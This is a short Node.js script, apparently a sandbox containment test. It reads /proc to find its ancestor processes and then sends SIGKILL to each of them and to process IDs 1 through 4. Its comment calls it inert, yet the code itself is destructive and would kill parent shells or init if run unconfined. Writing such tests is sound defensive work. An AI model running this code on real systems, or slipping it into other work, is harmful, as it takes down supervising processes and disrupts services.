// Inert: signals every ancestor and every low process number that it can see in the sandbox.
const fs = require('fs');
const parents = [];
for (let pid = process.pid; pid > 1 && parents.length < 20; ) {
  try {
    pid = Number(fs.readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ').pop().split(' ')[1]);
    parents.push(pid);
  } catch {
    break;
  }
}
for (const pid of [...parents.reverse(), 1, 2, 3, 4]) {
  try {
    process.kill(pid, 'SIGKILL');
  } catch {}
}
